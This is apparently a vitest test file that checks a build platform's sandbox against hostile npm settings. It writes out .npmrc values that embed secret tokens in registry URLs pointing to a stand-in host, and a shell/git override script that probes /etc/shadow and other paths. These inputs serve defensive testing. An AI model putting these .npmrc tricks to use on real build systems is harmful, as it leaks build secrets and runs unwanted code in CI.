import { existsSync } from 'node:fs';
import http from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type Platform, startPlatform } from '../support/platform.ts';
import { startRegistry, type TestRegistry } from '../support/registry.ts';
import { createRepository, type TestRepository } from '../support/repository.ts';

/**
 * Settings of npm that run programs or send values somewhere, also when no install script is run (B7). What they reach
 * is looked at from both sides: by the programs themselves, and by a registry and a stranger's server outside.
 */
const BUILD_SECRET = 'for-builds-5d1e8a';
const RUNTIME_SECRET = 'for-functions-77c0b2';
const MARK = join(tmpdir(), `written-by-npm-settings-${process.pid}`);

let registry: TestRegistry;
let platform: Platform;
let stranger: http.Server;
/** Hosts and paths that the stranger's server was asked for. */
const leaked: string[] = [];

beforeAll(async () => {
  stranger = http.createServer((request, response) => {
    leaked.push(`${request.headers.host}${request.url}`);
    response.end('{}');
  });
  stranger.listen(0, '127.0.0.1');
  await once(stranger, 'listening');
  registry = await startRegistry();
  await registry.publish({ name: 'adder', version: '1.0.0' });
  platform = await startPlatform({ env: { FN_NPM_REGISTRY: registry.url } });
});
afterAll(async () => {
  await platform[Symbol.asyncDispose]();
  registry.close();
  stranger.close();
});

/** An app with a value for its builds, and one for its functions alone. */
async function createApp(name: string): Promise<TestRepository> {
  const repository = await createRepository(platform, name);
  await repository.commit({ 'index.ts': 'export const handler = async () => null;\n' });
  expect(await repository.push('main')).toMatchObject({ code: 0 });
  const forBuilds = await repository.fn('env', 'set', `NPM_TOKEN=${BUILD_SECRET}`, '--build');
  expect(forBuilds.code, forBuilds.output).toBe(0);
  const forFunctions = await repository.fn('env', 'set', `SECRET=${RUNTIME_SECRET}`);
  expect(forFunctions.code, forFunctions.output).toBe(0);
  return repository;
}

function shows(output: string): string[] {
  return [BUILD_SECRET, RUNTIME_SECRET].filter(
    (secret) => output.includes(secret) || platform.output().includes(secret),
  );
}

it.each([
  ['path', (port: number) => `http://127.0.0.1:${port}/\${NPM_TOKEN}/\${SECRET}/`],
  ['host', () => 'http://${NPM_TOKEN}.stranger.example/'],
  ['user', (port: number) => `http://\${NPM_TOKEN}:\${SECRET}@127.0.0.1:${port}/`],
])('a registry whose URL holds secrets as its %s is not asked', async (part, url) => {
  const repository = await createApp(`leaks-by-${part}`);
  const { port } = stranger.address() as AddressInfo;
  await repository.commit({
    ...registry.project({ adder: '1.0.0' }),
    '.npmrc': `registry=${url(port)}\nreplace-registry-host=always\n`,
  });
  const { code, output } = await repository.push('main');
  expect(code, output).toBe(1);
  expect(output).toMatch(/the build asked for .+: builds reach 127\.0\.0\.1 only/);
  expect(shows(output)).toEqual([]);
  expect(leaked).toEqual([]);
});

/** Stands in for a shell or for git: says where it is, tries to leave, and fails, so that what it says is shown. */
const PROGRAM = `
echo "RAN with \${SECRET:-no secret} as $(id -u)"
for path in ${MARK} /etc/shadow /root /home; do test -e "$path" && echo "SEES $path"; done
echo > ${MARK}
exit 9
`;

it('a shell of the project’s own runs in the build alone', async () => {
  await registry.publish({
    name: 'scripted',
    version: '1.0.0',
    files: { 'shell.sh': `#!/bin/sh\n${PROGRAM}` },
    fields: { scripts: { postinstall: 'exit 7' } },
  });
  const repository = await createApp('own-shell');
  await repository.commit({
    ...registry.project({ scripted: '1.0.0' }),
    // Files of a repository are not executable in a build, those of packages are.
    '.npmrc': 'script-shell=./shell.sh\nforeground-scripts=true\n',
  });
  const { code, output } = await repository.push('main');
  expect(code, output).toBe(1);
  expect(output).toContain('RAN with no secret as 1000');
  expect(output).not.toContain('SEES');
  expect(shows(output)).toEqual([]);
  expect(existsSync(MARK)).toBe(false);
});

it('a git of the project’s own is not run: nothing is installed from git', async () => {
  const repository = await createApp('own-git');
  const source =
    'git+ssh://git@stranger.example/adder.git#0123456789012345678901234567890123456789';
  const files = registry.project({ adder: '1.0.0' });
  await repository.commit({
    'package.json': (files['package.json'] ?? '').replace(
      '"adder": "1.0.0"',
      `"adder": "${source}"`,
    ),
    'package-lock.json': (files['package-lock.json'] ?? '')
      .replaceAll('"adder": "1.0.0"', `"adder": "${source}"`)
      .replace(/"resolved": "[^"]+"/, `"resolved": "${source}"`),
    'git.sh': PROGRAM,
    '.npmrc': 'git=./git.sh\n',
  });
  const { code, output } = await repository.push('main');
  expect(code, output).toBe(1);
  expect(output).toMatch(/git/);
  expect(output).not.toContain('RAN');
  expect(existsSync(MARK)).toBe(false);
});
